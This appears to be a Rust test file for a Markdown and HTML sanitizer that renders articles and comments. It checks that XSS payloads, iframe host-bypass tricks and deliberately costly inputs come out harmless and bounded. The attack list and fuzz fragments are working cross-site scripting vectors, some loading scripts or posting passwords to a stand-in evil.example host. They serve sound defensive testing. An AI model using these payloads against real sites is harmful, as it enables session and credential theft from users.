use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::*;

/// The HTML of an article where no host is embedded.
fn article_html(markdown: &str) -> String {
    super::article_html(markdown, &EmbedHosts::default())
}

/// The start tags of HTML, each as its name and the names and values of its
/// attributes. It knows only HTML as it is serialized, in which `<` and `>`
/// stand for nothing but tags, and shares no code with what it tests.
fn start_tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    html.split('<')
        .skip(1)
        .filter_map(|piece| piece.split('>').next())
        .filter(|tag| !tag.starts_with('/'))
        .map(|tag| {
            let (name, rest) = tag.split_once(' ').unwrap_or((tag, ""));
            let pieces: Vec<&str> = rest.split('"').collect();
            let attributes = pieces.chunks_exact(2).map(|pair| {
                let name = pair[0].trim().trim_end_matches('=');
                (name.to_owned(), pair[1].to_owned())
            });
            (name.to_owned(), attributes.collect())
        })
        .collect()
}

/// Fails unless HTML can neither run code nor lead to it.
fn assert_harmless(html: &str) {
    let harmful = [
        "script", "style", "iframe", "frame", "object", "embed", "form", "button", "textarea",
        "select", "svg", "math", "link", "meta", "base", "template", "video", "audio", "body",
    ];
    for (name, attributes) in start_tags(html) {
        assert!(!harmful.contains(&name.as_str()), "<{name}> in {html}");
        for (attribute, value) in attributes {
            assert!(!attribute.starts_with("on"), "{attribute} in {html}");
            assert!(
                ![
                    "style",
                    "srcset",
                    "action",
                    "formaction",
                    "xlink:href",
                    "srcdoc",
                    "target"
                ]
                .contains(&attribute.as_str()),
                "{attribute} in {html}"
            );
            if ["href", "src"].contains(&attribute.as_str()) {
                let allowed = ["http://", "https://", "mailto:", "tel:", "#fn"];
                let value = value.to_lowercase();
                assert!(
                    allowed.iter().any(|start| value.starts_with(start)),
                    "{value}"
                );
            }
        }
    }
}

fn names(html: &str) -> Vec<String> {
    start_tags(html).into_iter().map(|(name, _)| name).collect()
}

fn attribute(html: &str, element: &str, wanted: &str) -> Option<String> {
    let (_, attributes) = start_tags(html)
        .into_iter()
        .find(|(name, _)| name == element)?;
    let found = attributes.into_iter().find(|(name, _)| name == wanted);
    found.map(|(_, value)| value)
}

/// Ways to smuggle code into a page.
const ATTACKS: [&str; 46] = [
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<script\n>steal()</script\n>",
    "<script>unfinished",
    "<<script>steal();//<</script>",
    "<img src=x onerror=steal()>",
    "<img/src=\"x\"/onerror=\"steal()\">",
    "<img src='x'onerror='steal()'>",
    "<img src=x oNeRrOr\n=\nsteal()>",
    "<img src=\"javascript:steal()\">",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img \"\"\"><script>steal()</script>\">",
    "<p onclick=steal() onmouseover='steal()'>text</p>",
    "<div style=\"background:url(javascript:steal())\">text</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<input type=image src=x onerror=steal() autofocus onfocus=steal()>",
    "<svg onload=steal()><script>steal()</script></svg>",
    "<svg><a xlink:href='javascript:steal()'><text>x</text></a></svg>",
    "<svg><style><img title=\"</style><img src onerror=steal()>\"></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=steal()></style></mglyph></table></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=steal()>\"></noscript>",
    "<textarea><img title=\"</textarea><img src=x onerror=steal()>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=steal()>\"></title>",
    "<template><script>steal()</script></template>",
    "<!--><img src=x onerror=steal()>-->",
    "<!-- --!><img src=x onerror=steal()> -->",
    "<![CDATA[<img src=x onerror=steal()>]]>",
    "<a href=javascript:steal()>x</a>",
    "<a href=\" \u{1}java\tscript:steal()\">x</a>",
    "<a href=\"&#106;avascript&colon;steal()\">x</a>",
    "<a href=vbscript:steal()>x</a>",
    "[x](javascript:steal())",
    "[x](JaVaScRiPt&colon;steal())",
    "[x](data:text/html,<script>steal()</script>)",
    "![x](javascript:steal())",
    "[x](https://a.example/\"onmouseover=\"steal())",
    "[x]: javascript:steal() \"title\"\n\n[x] <javascript:steal()>",
];

#[test]
fn no_attack_survives_in_an_article() {
    for attack in ATTACKS {
        let html = article_html(attack);
        assert_harmless(&html);
        assert_eq!(
            sanitized_article(&html),
            html,
            "a browser would read it as well"
        );
    }
}

#[test]
fn no_attack_survives_in_a_comment() {
    for attack in ATTACKS {
        let html = comment_html(attack);
        assert_harmless(&html);
        assert_eq!(
            sanitized_comment(&html),
            html,
            "a browser would read it as well"
        );
    }
}

#[test]
fn an_article_has_all_of_markdown() {
    let html = article_html(concat!(
        "# शीर्षक\n\n*em* **strong** ~~del~~ `code` www.example.org\n\n",
        "> quote\n\n1. one\n2. two\n\n- [x] done\n\n",
        "|a|b|\n|-|:-:|\n|c|d|\n\n```rust\nfn main() {}\n```\n\n---\n\n",
        "![alt](https://example.org/a.png \"title\")\n",
    ));
    for name in [
        "h1",
        "em",
        "strong",
        "del",
        "code",
        "a",
        "blockquote",
        "ol",
        "ul",
        "li",
        "input",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "pre",
        "hr",
        "img",
    ] {
        assert!(
            names(&html).iter().any(|found| found == name),
            "<{name}> in {html}"
        );
    }
    assert_eq!(attribute(&html, "img", "alt").as_deref(), Some("alt"));
    assert!(html.contains("<td align=\"center\">d</td>"));
    assert!(html.contains("<code class=\"language-rust\">"));
}

#[test]
fn emphasis_holds_next_to_the_punctuation_of_any_script() {
    assert_eq!(
        article_html("**強調。**次"),
        "<p><strong>強調。</strong>次</p>\n"
    );
    assert_eq!(
        article_html("**भारत** में"),
        "<p><strong>भारत</strong> में</p>\n"
    );
}

#[test]
fn an_article_keeps_the_html_that_is_allowed_in_it() {
    let written = "<figure><img src=\"https://example.org/a.png\" alt=\"नदी\"><figcaption>नदी</figcaption></figure>";
    assert_eq!(article_html(written).trim_end(), written);
    let passage = "<p dir=\"rtl\" lang=\"ur\">اردو</p>";
    assert_eq!(article_html(passage).trim_end(), passage);
    assert_eq!(
        article_html("<p dir=\"up\" id=\"x\" class=\"y\">a</p>"),
        "<p>a</p>\n"
    );
}

#[test]
fn markdown_and_html_may_enclose_each_other() {
    assert_eq!(
        article_html("<aside>\n\n*a* <kbd>b</kbd>\n\n</aside>"),
        "<aside>\n<p><em>a</em> <kbd>b</kbd></p>\n</aside>\n"
    );
}

#[test]
fn an_article_link_opens_without_a_way_back() {
    let html = article_html("[x](https://example.org/?a=1&b=2)");
    assert_eq!(
        attribute(&html, "a", "rel").as_deref(),
        Some("noopener noreferrer")
    );
    assert_eq!(
        attribute(&html, "a", "href").as_deref(),
        Some("https://example.org/?a=1&amp;b=2")
    );
}

#[test]
fn an_address_that_is_not_absolute_is_left_out() {
    for address in ["/a", "a", "../a", "//example.org/a", "?a", "#a"] {
        let html = article_html(&format!("[x]({address}) ![y]({address})"));
        assert_eq!(attribute(&html, "a", "href"), None, "{address}");
        assert_eq!(attribute(&html, "img", "src"), None, "{address}");
    }
}

#[test]
fn mail_and_telephone_links_stay_in_an_article() {
    for address in ["mailto:desk@example.org", "tel:+911234567890"] {
        let html = article_html(&format!("[x]({address})"));
        assert_eq!(attribute(&html, "a", "href").as_deref(), Some(address));
    }
}

#[test]
fn a_footnote_and_its_mention_lead_to_each_other() {
    let html = article_html("Text[^टीप].\n\n[^टीप]: Note.");
    let tags = start_tags(&html);
    let all = |wanted: &str| -> Vec<String> {
        let attributes = tags.iter().flat_map(|(_, attributes)| attributes);
        let found = attributes.filter(|(name, _)| name == wanted);
        found.map(|(_, value)| value.clone()).collect()
    };
    let (ids, hrefs) = (all("id"), all("href"));
    assert_eq!((ids.len(), hrefs.len()), (2, 2), "{html}");
    for href in hrefs {
        assert!(
            ids.contains(&href.trim_start_matches('#').to_owned()),
            "{html}"
        );
    }
}

#[test]
fn a_raw_input_becomes_the_box_of_a_task() {
    let html = article_html("<input type=text name=password value=x checked>");
    let (_, mut attributes) = start_tags(&html).remove(0);
    attributes.sort();
    let names: Vec<&str> = attributes.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names, ["checked", "disabled", "type"]);
    assert_eq!(
        attribute(&html, "input", "type").as_deref(),
        Some("checkbox")
    );
}

#[test]
fn a_comment_has_the_simple_part_of_markdown() {
    assert_eq!(
        comment_html("*a* **b** ~~c~~ `d`\ne\n\n> f\n\n- g\n\n3. h"),
        concat!(
            "<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code><br>\ne</p>\n",
            "<blockquote>\n<p>f</p>\n</blockquote>\n<ul>\n<li>g</li>\n</ul>\n",
            "<ol start=\"3\">\n<li>h</li>\n</ol>\n"
        )
    );
}

#[test]
fn a_comment_has_no_headings_images_rules_or_tables() {
    let html = comment_html("# a\n\n![b *c*](https://example.org/d.png)\n\n---\n\n|e|\n|-|\n|f|");
    assert!(
        html.starts_with("<p>a</p>\n<p>b <em>c</em></p>\n<p>|e|"),
        "{html}"
    );
    assert!(
        names(&html)
            .iter()
            .all(|name| ["p", "em", "br"].contains(&name.as_str()))
    );
}

#[test]
fn html_in_a_comment_is_shown_as_it_was_typed() {
    assert_eq!(
        comment_html("<div class=\"x\">\n<b>a</b>\n</div>"),
        "<p>&lt;div class=\"x\"&gt;<br>\n&lt;b&gt;a&lt;/b&gt;<br>\n&lt;/div&gt;</p>\n"
    );
    assert_eq!(
        comment_html("a <b>c</b>"),
        "<p>a &lt;b&gt;c&lt;/b&gt;</p>\n"
    );
}

#[test]
fn a_comment_links_to_the_web_alone_and_vouches_for_nothing() {
    let html = comment_html("[x](HTTPS://example.org) https://example.com");
    assert_eq!(names(&html), ["p", "a", "a"]);
    assert_eq!(
        attribute(&html, "a", "rel").as_deref(),
        Some("nofollow ugc noopener noreferrer")
    );
    for text in [
        "[x](mailto:a@example.org)",
        "me@example.org",
        "[x](tel:1)",
        "[x](/a)",
        "[x](#fn-1)",
    ] {
        assert_eq!(names(&comment_html(text)), ["p"], "{text}");
    }
}

#[test]
fn plain_text_has_a_line_for_each_block() {
    let markdown = concat!(
        "# A &amp; B\n\nOne *two*\nthree[^1].  \nfour\n\n- five\n- six\n\n|a|b|\n|-|-|\n|c|d|\n\n",
        "<div>seven<br>eight &lt;</div>\n\n```\nx  y\n  z\n```\n\n![no](https://example.org/a.png)\n\n",
        "[^1]: Note.\n",
    );
    assert_eq!(
        plain_text(markdown),
        "A & B\nOne two three.\nfour\nfive\nsix\na b\nc d\nseven\neight <\nx  y\n  z\nNote."
    );
}

#[test]
fn plain_text_holds_no_code_that_would_have_run() {
    assert_eq!(
        plain_text("a <script>steal()</script><style>p{}</style> b"),
        "a b"
    );
    assert_eq!(plain_text(""), "");
}

/// Texts that cost more than their length where nothing is done about it.
fn costly_texts() -> Vec<String> {
    const BYTES: usize = 40_000;
    let mut texts: Vec<String> = [
        ">",
        "> ",
        "[",
        "![",
        "*a ",
        "*a **b ",
        "_a __b ",
        "* a\n ",
        "> - ",
        "<div>",
        "<div>\n\n",
        "<b>",
        "<a b=\"",
        "<a b='<a c=\"' d='\"' ",
        "<!--",
        "<?",
        "<script>",
        "<",
        "</p>",
        "&amp;",
        "&",
        "\u{A0}a",
        "|a|\n|-|\n",
        "<table>",
        "<table><tr><td>",
        "<h1><b>",
        "[a](b",
        "www.a.b ",
        "a@b.c ",
        "- [ ] a\n",
        "<ruby><rt>",
        "<svg><math>",
    ]
    .iter()
    .map(|unit| unit.repeat(BYTES / unit.len()))
    .collect();
    let titled: String = (0..90).map(|n| format!("<b title={n}>")).collect();
    let columns = BYTES / 20;
    texts.extend([
        format!("<p>{titled}{}", "<p>x".repeat(BYTES / 4)),
        format!("<ul><li>{titled}{}", "<li>x".repeat(BYTES / 5)),
        format!("<table>{}", "x<br>".repeat(BYTES / 5)),
        format!("<a {}>", "b=c ".repeat(BYTES / 4)),
        format!("<p title=\"{}\">", "&".repeat(BYTES)),
        format!(
            "{}\n{}\n{}",
            "|a".repeat(columns),
            "|-".repeat(columns),
            "|a\n".repeat(columns)
        ),
        format!("[^a]: x\n\n{}", "[^a] ".repeat(BYTES / 5)),
        format!(
            "[a]: /{}\n\n{}",
            "x".repeat(BYTES / 2),
            "[a] ".repeat(BYTES / 8)
        ),
    ]);
    texts
}

#[test]
fn a_costly_text_is_rendered_in_bounded_time_and_depth() {
    for text in costly_texts() {
        let start: String = text.chars().take(20).collect();
        let began = Instant::now();
        for html in [article_html(&text), comment_html(&text)] {
            assert!(html.len() < 20 * text.len() + 100_000, "{start}");
            // A parser adds the `<tbody>` that a table was written without.
            assert!(depth(&html) < 140, "{start}");
        }
        plain_text(&text);
        // Ten times what it takes without optimization on a slow machine;
        // anything quadratic takes far longer.
        assert!(began.elapsed() < Duration::from_secs(20), "{start}");
    }
}

/// How deep elements nest in serialized HTML.
fn depth(html: &str) -> usize {
    let (mut depth, mut deepest) = (0_usize, 0);
    for piece in html.split('<').skip(1) {
        let name = piece.trim_start_matches('/').split([' ', '>']).next();
        if ["br", "hr", "img", "input", "col", "wbr"].contains(&name.unwrap_or_default()) {
            continue;
        }
        depth = if piece.starts_with('/') {
            depth - 1
        } else {
            depth + 1
        };
        deepest = deepest.max(depth);
    }
    assert_eq!(depth, 0, "every element is closed");
    deepest
}

#[test]
fn a_text_nested_too_deep_keeps_its_content() {
    let html = article_html(&format!("{}end", "> ".repeat(300)));
    assert_eq!(depth(&html), 100);
    assert!(html.contains("end"));
}

#[test]
fn a_text_made_to_be_costly_is_shown_as_written() {
    let text = format!("<b>&\n\n{}", ">".repeat(200_000));
    let html = article_html(&text);
    assert!(html.starts_with("<p>&lt;b&gt;&amp;</p>\n<p>&gt;&gt;"));
    assert_eq!(plain_text(&text).replace('\n', "\n\n"), text);
}

/// Pieces that hostile text is made of.
fn soup() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "<",
        ">",
        "\"",
        "'",
        "=",
        "/",
        "&",
        "!",
        "--",
        "[",
        "]",
        "(",
        ")",
        "*",
        "`",
        "\n",
        "\n\n",
        " ",
        "a",
        "ह",
        "<a ",
        "<img ",
        "<p>",
        "</p>",
        "<b>",
        "</b>",
        "<table>",
        "<td>",
        "<tr>",
        "<script>",
        "</script>",
        "<script ",
        "<style>",
        "</style>",
        "<svg>",
        "<math>",
        "<title>",
        "<noscript>",
        "<textarea>",
        "<pre>",
        "<ul>",
        "<li>",
        "href=",
        "src=",
        " onerror=",
        " onclick=\"steal()\"",
        "javascript:",
        "java\tscript:",
        "https://example.org",
        "data:",
        "&#x6a;",
        "&colon;",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "> ",
        "- ",
        "|",
        "|-|",
        "[^1]",
        "[^1]: ",
        "](",
        "![",
        "style=",
        "title=",
        "id=",
        "fn-",
        "\0",
        "\u{202E}",
    ]);
    prop::collection::vec(pieces, 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn no_text_makes_an_article_or_a_comment_harmful(text in soup()) {
        for html in [article_html(&text), comment_html(&text)] {
            assert_harmless(&html);
            depth(&html);
        }
    }

    #[test]
    fn any_text_has_a_plain_text_without_markup(text in any::<String>()) {
        assert_harmless(&article_html(&text));
        assert_harmless(&comment_html(&text));
        let plain = plain_text(&text);
        prop_assert_eq!(plain.trim_end(), plain.as_str());
    }

    #[test]
    fn html_put_in_order_is_nested_in_order(text in soup()) {
        let ordered = balanced(&text, &ARTICLE, None);
        let mut open = Vec::new();
        for token in tokens::Tokens::new(&ordered) {
            match token {
                tokens::Token::Open(tag) if !["br", "col", "hr", "img", "input", "wbr"].contains(&tag.name.as_str()) => {
                    open.push(tag.name);
                }
                tokens::Token::Close(name) => prop_assert_eq!(open.pop(), Some(name)),
                _ => {}
            }
        }
        prop_assert!(open.is_empty());
    }
}

#[test]
fn what_is_embedded_becomes_a_link_unless_its_host_is_let_in() {
    let hosts: EmbedHosts = "www.youtube.com".parse().unwrap();
    let frame = "Before\n\n<iframe src=\"https://www.youtube.com/embed/x?a=1&amp;b=2\" title=\"A &quot;film&quot;\" width=560 height=1e9 style=x onload=alert(1) srcdoc=x name=y allow=camera sandbox allowfullscreen></iframe>\n\nAfter";
    assert_eq!(
        article_html(frame),
        "<p>Before</p>\n<p class=\"embed\"><a href=\"https://www.youtube.com/embed/x?a=1&amp;b=2\" rel=\"noopener noreferrer\">A \"film\"</a></p>\n<p>After</p>\n"
    );
    let framed = super::article_html(frame, &hosts);
    let tags = start_tags(&framed);
    let (_, mut attributes) = tags
        .iter()
        .find(|(name, _)| name == "iframe")
        .unwrap()
        .clone();
    attributes.sort();
    let wanted = [
        ("allowfullscreen", ""),
        ("loading", "lazy"),
        ("referrerpolicy", "strict-origin-when-cross-origin"),
        (
            "sandbox",
            "allow-scripts allow-same-origin allow-presentation allow-popups",
        ),
        ("src", "https://www.youtube.com/embed/x?a=1&amp;b=2"),
        ("title", "A &quot;film&quot;"),
        ("width", "560"),
    ];
    assert_eq!(
        attributes,
        wanted.map(|(name, value)| (name.to_owned(), value.to_owned())),
        "{framed}"
    );
    assert_eq!(plain_text(frame), "Before\nAfter");
    assert_eq!(plain_text_of(&framed), "Before\nAfter");
    assert!(!comment_html(frame).contains("<iframe"));
}

#[test]
fn no_frame_shows_what_is_not_let_in() {
    let hosts: EmbedHosts = "a.example, *.b.example".parse().unwrap();
    let framed = |source: &str| {
        super::article_html(&format!("<iframe src=\"{source}\"></iframe>"), &hosts)
            .contains("<iframe")
    };
    for source in [
        "https://a.example/x",
        "//a.example/x",
        "https://x.b.example/",
        "HTTPS://A.EXAMPLE",
    ] {
        assert!(framed(source), "{source}");
    }
    for source in [
        "http://a.example/",
        "https://a.example.evil.example/",
        "https://a.example@evil.example/",
        "https://user@a.example/",
        "https://a.example:8443/",
        "https://b.example/",
        "https://evil.example/?a.example",
        "javascript:alert(1)",
        "data:text/html,x",
        "/x",
        "",
        "https:evil.example",
        "https://evil.example\\a.example/",
        "https://a.example\u{2f}.evil.example",
        "\\\\evil.example",
        "java\tscript:alert(1)",
        "blob:https://a.example/x",
        "about:blank",
    ] {
        let framed = framed(source);
        let leads_to_a = source == "https://a.example\u{2f}.evil.example";
        assert!(!framed || leads_to_a, "{source}");
    }
    for attack in [
        "<ifr<iframe src=x></iframe>ame src=https://evil.example/>",
        "<iframe src=https://evil.example/ src=https://a.example/>",
        "<iframe src=https://a.example/ title='\"><iframe src=https://evil.example/>'></iframe>",
        "<iframe title='</iframe><script>' src=https://a.example/></iframe>",
        "<svg><iframe src=https://evil.example/></svg>",
        "<iframe src=https://evil.example/><!--</iframe>--><img src=x onerror=y>",
        "<video src=https://evil.example/><source src=https://evil.example/></video>",
        "<table><iframe src=https://evil.example/></table>",
        "<textarea><iframe src=https://evil.example/></textarea>",
        "<noscript><iframe src=https://evil.example/></noscript>",
    ] {
        let html = super::article_html(attack, &hosts);
        for (name, attributes) in start_tags(&html) {
            assert!(name != "script", "{html}");
            let evil = attributes
                .iter()
                .any(|(name, value)| name == "src" && value.contains("evil"));
            assert!(!(name == "iframe" && evil), "{html}");
        }
    }
}

#[test]
fn a_film_or_a_sound_becomes_one_link_to_its_source() {
    let html = article_html(
        "<video controls title=Film><source src=https://x.example/a.webm><source src=https://x.example/a.mp4></video>\n\n<audio src=\"https://x.example/b.mp3\"></audio>\n\n<video></video> <source src=https://x.example/c>",
    );
    assert_eq!(html.matches("<a ").count(), 2, "{html}");
    assert!(
        html.contains("a.webm") && html.contains(">x.example</a>") && html.contains("b.mp3"),
        "{html}"
    );
}
